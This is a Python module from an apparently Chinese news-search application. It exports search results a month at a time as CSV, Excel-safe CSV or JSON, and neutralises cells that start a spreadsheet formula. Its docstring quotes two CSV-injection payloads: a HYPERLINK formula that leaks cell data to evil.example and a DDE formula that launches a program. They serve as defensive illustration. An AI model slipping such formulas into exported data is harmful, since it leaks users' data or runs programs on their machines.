"""Every match of a search as CSV, Excel-safe CSV or JSON, produced a month at a time (bounded memory).

Exports list every match in time order (newest first, or oldest with sort=oldest; a ranked order would
only cover the ranked window), reading each month's matches with their rows in one query.

Excel: a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel
(`=HYPERLINK("http://evil.example/?"&A1)` leaks data, `+cmd|' /C calc'!A0` runs a program), and titles and
authors come from the internet. The `.csvbom` export prefixes such cells with `'` (OWASP's advice), which
Excel shows as text; the plain `.csv` and JSON stay exact.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from collections.abc import Iterator

from zhnews.app.excel import neutralise
from zhnews.search import keys
from zhnews.search.engine import Plan
from zhnews.search.index import FTS_TABLE

COLUMNS = ("id", "published", "outlet", "outlet_name", "section", "author", "language", "title", "url",
           "lead")
TEXT_COLUMN = "body_text"
BOM = "\ufeff"


def excel_safe(value: object) -> object:
    """A cell as Excel must see it: text that would start a formula gets a leading `'` (zhnews.app.excel)."""
    return neutralise(value) if isinstance(value, str) else value


def month_ranges(plan: Plan, *, newest: bool) -> Iterator[tuple[int, int]]:
    """The plan's rowid range a month at a time (months holding articles only), in time order; the undated
    (month 0) last."""
    if plan.nothing:
        return
    months = [m for m, _ in plan.months]
    for month in reversed(months) if newest else months:
        yield keys.month_range(month, month)
    if plan.undated:
        yield keys.month_range(keys.UNDATED, keys.UNDATED)


def month_rows(conn: sqlite3.Connection, plan: Plan, low: int, high: int, *, newest: bool,
               text: bool = False) -> list[dict[str, object]]:
    """Every match in [low, high] with its export columns, sorted by publication time."""
    where, params = plan.where(low, high)
    columns = [*COLUMNS, TEXT_COLUMN] if text else list(COLUMNS)
    selected = ", ".join("o.name as outlet_name" if c == "outlet_name" else f"a.{c}" for c in columns)
    cursor = conn.execute(
        f"select {selected} from (select rowid as found from {FTS_TABLE} where {where}) "
        f"join articles a on a.search_rowid = found left join outlets o on o.id = a.outlet "
        f"order by a.published {'desc' if newest else 'asc'}, a.search_rowid {'desc' if newest else 'asc'}",
        params)
    names = [d[0] for d in cursor.description]
    return [dict(zip(names, row, strict=True)) for row in cursor]


def csv_chunk(rows: list[dict[str, object]], columns: list[str], *, header: bool, excel: bool) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    if header:
        writer.writerow(columns)
    for row in rows:
        values = [row.get(c) for c in columns]
        writer.writerow([excel_safe(v) for v in values] if excel else values)
    return out.getvalue()


def json_rows(rows: list[dict[str, object]]) -> str:
    """Rows as JSON objects separated by commas: the inside of the export's array."""
    return ",".join(json.dumps(row, ensure_ascii=False) for row in rows)
